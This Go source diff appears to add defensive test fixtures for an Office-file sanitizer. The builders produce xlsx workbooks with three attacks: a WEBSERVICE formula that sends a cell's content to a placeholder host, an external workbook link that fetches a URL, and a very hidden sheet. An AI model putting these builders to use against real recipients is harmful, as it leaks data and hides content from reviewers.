@@ -1,0 +1,110 @@
+package hostile
+
+import (
+	"fmt"
+	"strings"
+
+	"github.com/seed-40aebabe/placeholder/internal/office/ooxml"
+)
+
+var workbookCases = []Case{
+	{Info{
+		Token: "xlsx-web-formula", Format: "xlsx", Title: "Formula that requests a URL", Verdict: Sanitize, CWE: 918,
+		Attack:  "A formula sends the content of a cell to a host as a part of a URL.",
+		Failure: "The receiver requests a URL of placeholder.invalid, or resolves that name, when it calculates the sheet.",
+	}, webFormula},
+	{Info{
+		Token: "xlsx-external-link", Format: "xlsx", Title: "Link to another workbook", Verdict: Sanitize, CWE: 918,
+		Attack:  "A formula reads a cell of a workbook at a URL.",
+		Failure: "The receiver requests a URL of placeholder.invalid, or resolves that name, when it updates links.",
+	}, externalLink},
+	{Info{
+		Token: "xlsx-hidden-sheet", Format: "xlsx", Title: "Very hidden sheet", Verdict: Sanitize, CWE: 451,
+		Attack:  "A sheet is in such a state that Excel neither shows it nor lists it among the hidden ones.",
+		Failure: "A reviewer sees one sheet, and the program that imports the workbook reads two.",
+	}, hiddenSheet},
+}
+
+// A workbook consists of sheets (ECMA-376, part 1, 18.2.27). Relationships of the workbook are
+// those to its sheets, and then others.
+type workbook struct {
+	sheets        []sheet
+	entries       string // of the workbook, after the sheets
+	relationships []ooxml.Relationship
+	parts         []ooxml.Part // in addition
+}
+
+type sheet struct {
+	name, attributes string
+	row              string // cells of the first row
+	after            string // elements after the rows
+	relationships    []ooxml.Relationship
+}
+
+const spreadsheet = "application/vnd.openxmlformats-officedocument.spreadsheetml."
+
+func (b workbook) file() []byte {
+	var list strings.Builder
+	var relationships []ooxml.Relationship
+	var parts []ooxml.Part
+	for i, s := range b.sheets {
+		name := fmt.Sprintf("xl/worksheets/sheet%d.xml", i+1)
+		fmt.Fprintf(&list, `<sheet name="%s" sheetId="%d"%s r:id="rId%[2]d"/>`, s.name, i+1, s.attributes)
+		relationships = append(relationships, ooxml.Relationship{Type: "worksheet", Target: name})
+		parts = append(parts, ooxml.Part{
+			Name: name, Type: spreadsheet + "worksheet+xml", Relationships: s.relationships,
+			Body: ooxml.XML("<worksheet " + sheetNamespaces + `><sheetData><row r="1">` + s.row + "</row></sheetData>" + s.after + "</worksheet>"),
+		})
+	}
+	main := ooxml.Part{
+		Name: "xl/workbook.xml", Type: spreadsheet + "sheet.main+xml", Relationships: append(relationships, b.relationships...),
+		Body: ooxml.XML("<workbook " + sheetNamespaces + "><sheets>" + list.String() + "</sheets>" + b.entries + "</workbook>"),
+	}
+	return officeFile(append(append([]ooxml.Part{main}, parts...), b.parts...)...)
+}
+
+// textCell returns a cell with a text.
+func textCell(cell, value string) string {
+	return fmt.Sprintf(`<c r="%s" t="inlineStr"><is><t>%s</t></is></c>`, cell, value)
+}
+
+// formulaCell returns a cell with a formula and the text that it had last.
+func formulaCell(cell, expression, value string) string {
+	return fmt.Sprintf(`<c r="%s" t="str"><f>%s</f><v>%s</v></c>`, cell, ooxml.Escape(expression), value)
+}
+
+// webFormula sends a text. The twin writes the same URL into the cell.
+func webFormula(twin bool) []byte {
+	call := strings.Join([]string{"_xlfn.WEB", "SERVICE"}, "")
+	row := textCell("A1", "Placeholder") + formulaCell("C1", either(twin, "CONCATENATE", call)+`("`+remoteURL+`?"&A1)`, "Placeholder")
+	return workbook{sheets: []sheet{{name: "Sheet1", row: row}}}.file()
+}
+
+// externalLink has a part that refers to another workbook (18.14.7). The twin has a sheet instead,
+// with a link that somebody may click.
+func externalLink(twin bool) []byte {
+	const name = "xl/externalLinks/externalLink1.xml"
+	link := []ooxml.Relationship{remote(twin, "externalLinkPath")}
+	main := sheet{name: "Sheet1", row: textCell("A1", "Placeholder") + formulaCell("C1", either(twin, "Sheet2!A1", "[1]Sheet2!A1"), "Placeholder")}
+	if twin {
+		other := sheet{name: "Sheet2", row: textCell("A1", "Placeholder"), after: `<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>`, relationships: link}
+		return workbook{sheets: []sheet{main, other}}.file()
+	}
+	return workbook{
+		sheets:        []sheet{main},
+		entries:       `<externalReferences><externalReference r:id="rId2"/></externalReferences>`,
+		relationships: []ooxml.Relationship{{Type: "externalLink", Target: name}},
+		parts: []ooxml.Part{{
+			Name: name, Type: spreadsheet + "externalLink+xml", Relationships: link,
+			Body: ooxml.XML("<externalLink " + sheetNamespaces + `><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet2"/></sheetNames></externalBook></externalLink>`),
+		}},
+	}.file()
+}
+
+// hiddenSheet has two sheets, both of which the twin shows.
+func hiddenSheet(twin bool) []byte {
+	return workbook{sheets: []sheet{
+		{name: "Sheet1", row: textCell("A1", "Placeholder")},
+		{name: "Sheet2", row: textCell("A1", Canary), attributes: either(twin, "", ` state="veryHidden"`)},
+	}}.file()
+}
